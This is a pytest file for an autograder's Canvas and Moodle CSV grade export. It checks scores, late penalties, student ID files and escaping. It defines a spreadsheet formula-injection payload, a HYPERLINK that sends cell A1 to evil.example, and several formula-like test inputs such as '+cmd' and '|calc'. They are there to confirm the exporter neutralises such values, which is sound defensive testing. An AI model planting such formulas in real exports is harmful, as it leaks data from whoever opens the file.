"""Grade files: what Canvas and Moodle read, from a real gradebook, safe in a spreadsheet."""

from __future__ import annotations

import copy
import csv
import io
from datetime import datetime
from pathlib import Path

import pytest

from autograder.errors import ConfigurationError
from autograder.export.csv_text import as_text, id_fault, read_ids
from autograder.export.grades import ClassGrades, Grade, class_grades
from autograder.export.tables import CANVAS_IDS, MOODLE_IDS, canvas, moodle
from autograder.nbgrader.classroom import Classroom, init
from autograder.nbgrader.gradebook import register, save_not_gradable, save_report
from autograder.nbgrader.release import release
from autograder.problem_sets import locate
from autograder.results import CheckResult, Outcome, Report

COURSE = Path(__file__).parents[1] / "nbgrader" / "tiny_course"
NAME = "ps00_tiny"
EVIL = '=HYPERLINK("http://evil.example?"&A1,"click")'


@pytest.fixture(scope="module")
def graded(tmp_path_factory) -> Classroom:
    """ada: checks, a grade by hand, a comment, late. bob: waits. carl: not gradable. dora: has no work."""
    problem_set = locate(NAME, COURSE)
    room = init(tmp_path_factory.mktemp("class") / "room", COURSE)
    config = room.directory / "nbgrader_config.py"
    late = "c.ExpectedGradient.late = {'percent_per_day': 10}\nc.ExpectedGradient.exclude = ['test']\n"
    config.write_text(config.read_text("utf-8") + late, "utf-8")
    room = Classroom.open(room.directory)
    release(room, problem_set)
    passed = (Outcome("close", True, "right"),)
    checks = tuple(
        CheckResult(f"check_{name}", name, points, passed)
        for name, points in (("sum_of_squares", 3.0), ("scaled", 2.0))
    )
    answered = copy.deepcopy(problem_set.release_notebook)
    (why,) = [cell for cell in answered.cells if cell.id == "why_squares"]
    why.source = "Because."
    with room.gradebook(NAME) as gradebook:
        gradebook.find_assignment(NAME).duedate = datetime(2026, 1, 1)
        for student in ("ada", "bob", "test"):
            save_report(gradebook, Report(NAME, "0" * 64, checks), answered, NAME, student, NAME)
        register(gradebook, NAME, "ada", datetime(2026, 1, 1, 20))
        for student in ("ada", "test"):
            by_hand = gradebook.find_grade("why_squares", NAME, NAME, student)
            by_hand.manual_score, by_hand.needs_manual_grade = 1.5, False
        gradebook.find_comment("scaled", NAME, NAME, "ada").manual_comment = f"{EVIL} <b>&"
        save_not_gradable(gradebook, Report(NAME, not_gradable="the file is empty"), NAME, "carl", NAME)
        ada = gradebook.find_student("ada")
        ada.first_name, ada.last_name, ada.email = "Ada", EVIL, "ada@example.org"
        gradebook.add_student("dora")
        gradebook.db.commit()
    return room


def read(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


def test_canvas_reads_names_ids_the_points_possible_and_the_score(graded):
    made = canvas(class_grades(graded, NAME), "ps00 (77)")
    assert read(made.data) == [
        ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "ps00 (77)"],
        ["    Points Possible", "", "", "", "", "7"],
        # 3 + 2 by checks, 1.5 by hand, a day late at 10 %: 5.85.
        [f"'{EVIL}, Ada", "", "", "ada", "", "5.85"],
    ]
    assert made.students == ("ada",)
    assert dict(made.left_out) == dict.fromkeys(("bob", "carl"), "a person has still to look at it")


def test_moodle_reads_ids_the_score_and_feedback_that_is_html(graded):
    made = moodle(class_grades(graded, NAME), "ps00")
    header, row = read(made.data)
    assert header == ["username", "email", "idnumber", "ps00", "ps00 feedback"]
    assert row[:4] == ["ada", "ada@example.org", "", "5.85"]
    assert "scaled: =HYPERLINK" in row[4] and "&lt;b&gt;&amp;" in row[4]
    assert row[4].endswith("<br>late: 0.65 points were taken off")


def test_provisional_grades_are_given_when_asked_for(graded):
    made = canvas(class_grades(graded, NAME, provisional=True), NAME)
    assert [row[3:] for row in read(made.data)[2:]] == [
        ["ada", "", "5.85"],
        ["bob", "", "5"],
        ["carl", "", "0"],
    ]


def test_the_command_writes_the_file_says_who_is_not_in_it_and_ends_with_3(graded):
    from typer.testing import CliRunner

    from autograder.cli import app

    done = CliRunner().invoke(app, ["export", NAME, "--format", "canvas", "-c", str(graded.directory)])
    assert done.exit_code == 3, done.output
    assert "left out: bob: a person has still to look at it" in done.output
    assert b"ada" in (graded.directory / "exports" / f"{NAME}.canvas.csv").read_bytes()
    done = CliRunner().invoke(app, ["export", NAME, "-f", "blackboard", "-c", str(graded.directory)])
    assert isinstance(done.exception, ConfigurationError)
    assert "expected canvas, moodle or gradescope" in str(done.exception)


def one(student: str, **known: str) -> ClassGrades:
    empty = dict.fromkeys(("first_name", "last_name", "email", "lms_user_id"), "")
    return ClassGrades(5.0, (Grade(student, 1 / 3, 0.0, "", empty | known),), {})


def test_a_file_of_ids_says_who_is_who(tmp_path):
    path = tmp_path / "ids.csv"
    path.write_text('\ufeffstudent, ID ,Section,Note\nzoë,4711,"-1, evening",x\n', "utf-8")
    ids = read_ids(path, CANVAS_IDS)
    assert read(canvas(one("zoë"), "a", ids).data)[2] == ["zoë", "4711", "", "", "'-1, evening", "0.333"]
    missing = canvas(one("bob"), "a", ids)
    assert missing.left_out == {"bob": "the file of ids does not name the student"}
    assert len(read(missing.data)) == 2


@pytest.mark.parametrize("student", ["=1+1", "+cmd", "-2", "@sum", "\tx", "＝1+1", " =1", "a\nb", "\udcff"])
def test_an_id_that_is_a_formula_or_no_text_is_left_out_not_changed(student):
    made = moodle(one(student), "a")
    assert made.students == () and len(read(made.data)) == 1
    assert "id" in made.left_out[student]


@pytest.mark.parametrize("text", ["=1", "+1", "-1", "@a", "\t=1", "  =1", "\r=1", "%0A", "|calc"])
def test_text_is_shown_and_not_executed(text):
    assert as_text(text)[0] == "'"
    assert as_text("an = b, 3-2 x@y") == "an = b, 3-2 x@y"
    assert id_fault("x@y.org") == id_fault("s-1") == id_fault("Müller 2") == ""


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("student,ID\na,1\na,2\n", r"names each student once \(received 'a'\)"),
        ("student,ID\na,1\nb,1\n", r"no two students have the same ID \(received '1' for 'a' and 'b'\)"),
        ("name,ID\na,1\n", "has the column student and one.*received name, ID"),
        ("student,email\na,b\n", "expected student and any of Student, ID"),
        ("", "received an empty file"),
        ('student,ID\n"a,1\n', "read from a CSV file"),
    ],
)
def test_a_file_of_ids_that_would_mix_people_up_is_refused(tmp_path, text, message):
    (tmp_path / "ids.csv").write_text(text)
    with pytest.raises(ConfigurationError, match=message):
        read_ids(tmp_path / "ids.csv", CANVAS_IDS)


def test_a_column_that_is_none_is_refused():
    for column in ("", "=ps05", "email"):
        with pytest.raises(ConfigurationError, match="a column's name is one line"):
            moodle(one("ada"), column)
    assert MOODLE_IDS == ("username", "email", "idnumber")
